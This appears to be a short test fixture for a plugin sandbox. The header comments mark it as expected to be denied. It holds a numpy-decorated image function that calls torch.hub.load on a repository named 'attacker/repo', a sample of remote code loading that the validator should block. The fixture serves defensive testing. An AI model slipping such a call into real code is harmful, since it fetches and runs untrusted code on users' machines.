# route: torch.hub.load
# expect: denied-attribute
from openhcs_plugins.memory import numpy
import numpy as np


@numpy
def process(image):
    import torch as th
    th.hub.load("attacker/repo", "model")
    return image
